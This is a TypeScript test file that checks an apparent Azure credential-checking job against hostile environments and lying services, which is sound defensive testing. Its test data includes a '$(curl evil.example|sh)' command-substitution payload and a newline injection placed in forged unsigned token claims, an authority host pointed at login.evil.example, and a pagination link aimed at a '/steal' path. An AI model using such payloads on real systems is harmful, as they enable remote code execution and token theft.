import { describe, expect, test } from "vitest";
import type { FaultAction } from "../simulator/faults.ts";
import { json } from "../simulator/request.ts";
import { type Company, createCompany } from "../support/company.ts";
import { BY_DEFAULT, play } from "../support/scenario.ts";

/** A token with these claims in place of the real one; nobody checks its signature but the services. */
function tokenWith(claims: Record<string, string>): FaultAction {
  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString("base64url");
  const token = [part({ alg: "none" }), part(claims), "x"].join(".");
  return () =>
    json(200, { token_type: "Bearer", expires_in: 3599, ext_expires_in: 3599, access_token: token });
}

const isToken = { host: "login.microsoftonline.com" };

/** A principal that has no role on the subscription, so that a command to give it one is offered. */
function powerless(): Company {
  const company = createCompany();
  company.simulator.fault({
    when: { path: /\/permissions$/ },
    do: () => json(200, { value: [] }),
  });
  return company;
}

describe("the environment of the job cannot bend where a secret goes", () => {
  test.concurrent("NODE_TLS_REJECT_UNAUTHORIZED=0 does not make an unknown certificate good", async () => {
    const company = createCompany();
    const env = { NODE_TLS_REJECT_UNAUTHORIZED: "0", NODE_NO_WARNINGS: "1" };
    const run = await play(company, { inputs: company.inputs, env, door: { untrusted: true } });
    expect(run.problems).toEqual(["error network/tls-untrusted"]);
    expect(run.requests).toEqual([]);
  });

  test.concurrent.each([
    ["MSAL_FORCE_REGION", "westus"],
    ["AZURE_REGIONAL_AUTHORITY_NAME", "westus"],
    ["AZURE_AUTHORITY_HOST", "https://login.evil.example"],
    ["DEBUG", "*"],
    ["TYPESPEC_RUNTIME_LOG_LEVEL", "verbose"],
  ])("%s=%s changes nothing", async (name, value) => {
    const company = createCompany();
    const run = await play(company, { inputs: company.inputs, env: { [name]: value } });
    expect(run.outputs["verdict"]).toBe("valid");
    expect(run.requests).toEqual(BY_DEFAULT);
  });

  test.concurrent.each(["http://host:notaport", "http://user:%ZZ@proxy:1", "http://", "socks5://proxy:1080"])(
    "a proxy that is no address (%s) is named, and nothing is sent past it",
    async (proxy) => {
      const company = createCompany();
      const run = await play(company, { inputs: company.inputs, env: { HTTPS_PROXY: proxy } });
      expect(run.problems).toEqual(["error network/proxy-unreachable"]);
      expect(run.requests).toEqual([]);
    },
  );
});

describe("a service that lies", () => {
  test.concurrent("cannot put a command into what one is told to paste, nor a line into an output", async () => {
    const company = powerless();
    const claims = { tid: "t\nEVIL=1", oid: "$(curl evil.example|sh)", appid: "$(curl evil.example|sh)" };
    company.simulator.fault({ when: isToken, do: tokenWith(claims) });
    const everything = () => json(200, { value: [], state: "Enabled", displayName: "x" });
    company.simulator.fault({ when: { host: "management.azure.com" }, do: everything });
    const run = await play(company, { inputs: { ...company.inputs, "check-expiry": "off" } });
    expect(`${run.printed}${run.summary}${JSON.stringify(run.outputs)}`).not.toMatch(/curl|EVIL/);
  });

  test.concurrent.each(["e", "{\n}\n:"])("cannot make a mask of %j by calling it a token", async (token) => {
    const company = createCompany();
    company.simulator.fault({
      when: isToken,
      do: () => json(200, { token_type: "Bearer", expires_in: 3599, access_token: token }),
    });
    const run = await play(company, { inputs: { ...company.inputs, "timeout-seconds": "3" } });
    expect(run.masks.filter((mask) => mask.length < 4)).toEqual([]);
  });

  test.concurrent("cannot lead the token for one service to another by the next page of a list", async () => {
    const company = createCompany();
    const nextLink = "https://graph.microsoft.com/steal";
    company.simulator.fault({
      when: { path: /\/resourcegroups$/i },
      do: () => json(200, { value: [], nextLink }),
    });
    const inputs = { ...company.inputs, "connection-test": "true" };
    const run = await play(company, { inputs });
    expect(run.problems).toEqual(["error network/foreign-host"]);
    expect(run.traffic.filter(({ path }) => path === "/steal")).toEqual([]);
  });

  test.concurrent("cannot keep us turning pages for ever", async () => {
    const company = createCompany();
    const path = `/subscriptions/${company.inputs["subscription-id"]}/resourcegroups`;
    const nextLink = `https://management.azure.com${path}?api-version=2025-04-01`;
    company.simulator.fault({
      when: { path: /\/resourcegroups$/i },
      do: () => json(200, { value: [], nextLink }),
    });
    const run = await play(company, { inputs: { ...company.inputs, "connection-test": "true" } });
    expect(run.problems).toEqual(["error network/too-large"]);
    expect(run.requests.filter((kind) => kind === "resource groups").length).toBeLessThan(30);
  });

  test.concurrent("cannot hold us up with a pattern that takes for ever to match", async () => {
    const company = createCompany();
    const notActions = [`${"*a".repeat(500_000)}`];
    company.simulator.fault({
      when: { path: /\/permissions$/ },
      do: () => json(200, { value: [{ actions: ["*"], notActions, dataActions: [], notDataActions: [] }] }),
    });
    const inputs = { ...company.inputs, "required-actions": `Microsoft.Web/${"a".repeat(200)}/write` };
    const run = await play(company, { inputs });
    expect(run.problems).toEqual(["error actions/denied"]);
  });
});
